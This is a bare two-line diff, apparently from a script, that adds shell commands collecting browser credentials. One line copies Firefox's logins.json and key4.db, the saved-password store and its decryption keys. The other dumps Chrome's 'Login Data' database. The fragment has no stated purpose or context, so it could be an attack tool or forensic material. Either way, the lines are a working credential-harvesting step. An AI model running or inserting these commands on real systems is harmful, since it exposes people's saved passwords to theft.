@@ -1,0 +1,2 @@
+cp .mozilla/firefox/abcd.default/logins.json .mozilla/firefox/abcd.default/key4.db ./
+sqlite3 '.config/google-chrome/Default/Login Data' .dump
